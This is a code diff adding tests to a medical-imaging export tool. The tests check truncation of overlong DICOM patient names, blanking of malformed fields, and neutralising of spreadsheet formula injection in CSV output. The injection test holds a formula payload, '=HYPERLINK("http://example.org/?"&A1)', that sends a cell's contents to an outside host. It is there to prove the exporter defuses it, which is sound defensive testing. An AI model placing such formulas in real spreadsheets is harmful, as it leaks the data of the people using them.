@@ -6,6 +6,8 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { nodeLoadWasm } from '../../../../src/studies/files/inputFiles.ts';
+import { parseHeader, personName, value } from '../../../../src/core/dicom/elements.ts';
+import { openPart10 } from '../../../../src/core/dicom/part10.ts';
 import { EmptySegmentationError } from '../../../../src/core/dicom/segmentationObject.ts';
 import type { Analysis, Prediction } from '../../../../src/pipeline/analysing/analysis.ts';
 import {
@@ -152,6 +154,56 @@ const withLabels = (one: ExportedCase, other: Uint8Array): ExportedCase => ({
 const text = (bytes: Uint8Array): string => Buffer.from(bytes).toString('latin1');
 const holds = (bytes: Uint8Array, value: string): boolean =>
   text(bytes).includes(Buffer.from(value, 'utf8').toString('latin1'));
+
+describe('what a file cannot hold', () => {
+  it('is cut to what the standard allows, in SEG and SR, and named', async () => {
+    const broken = syntheticStack(SLICES, 10, (k) => ({
+      columns: COLUMNS,
+      rows: ROWS,
+      pixels: Uint16Array.from({ length: COLUMNS * ROWS }, (_, i) => 50 * k + i),
+      elements: {
+        ...IDENTITY,
+        // As another VR: dcmjs would not write so long a name.
+        '00100010': ['LT', `Muster^${'x'.repeat(500)}`],
+        '00100030': ['DA', '7/8/1956'],
+        '00100040': ['CS', 'weiblich?'],
+        '00080018': ['UI', `1.2.3.777.3.${k + 1}`],
+      },
+    }));
+    const study = await readStudy(
+      broken.map((bytes, i) => memoryFile(`IM${i}`, bytes)),
+      { loadWasm: nodeLoadWasm },
+    );
+    const stack = await chosenOf(study);
+    const origin = await study.readOrigin(stack.series.id, new Date(2026, 0, 2));
+    expect(origin.changed).toEqual(['00100010', '00100030', '00100040']);
+    for (const write of [toSegmentationObject, toStructuredReport]) {
+      const { elements, characterSets } = parseHeader(openPart10(write(exported(stack, origin))));
+      expect(personName(elements, '00100010', characterSets)).toBe(`Muster^${'x'.repeat(57)}`);
+      expect([value(elements, '00100030'), value(elements, '00100040')]).toEqual(['', '']);
+    }
+  });
+
+  it('by words of a case file that are too long, stops nothing', async () => {
+    const one = exported(await chosenOf(await open()), null);
+    const cards = one.cards.map((card) => ({ ...card, version: '9'.repeat(4000) }));
+    expect(toSegmentationObject({ ...one, cards }).length).toBeGreaterThan(0);
+    expect(toStructuredReport({ ...one, cards }).length).toBeGreaterThan(0);
+  });
+
+  it('is no formula in a spreadsheet', async () => {
+    const one = exported(await chosenOf(await open()), null);
+    const english = '=HYPERLINK("http://example.org/?"&A1)';
+    const segmentation = { plausibility: [], casePlausibility: null } as unknown as Analysis['segmentation'];
+    for (const start of ['=', '+', '-', '@', '\t']) {
+      const warnings = [{ code: 'sentence', english: english.replace('=', start) }] as const;
+      const table = toCsv({ scar: one.scar, segmentation, survival: one.survival, warnings, refused: [] }, (reason) =>
+        'english' in reason ? reason.english : '',
+      );
+      expect(table).toContain(`images,warning,"'${start}HYPERLINK(""http`);
+    }
+  });
+});
 
 describe('a prediction that does not apply', () => {
   it('says why before its numbers, in the report and in the table', async () => {
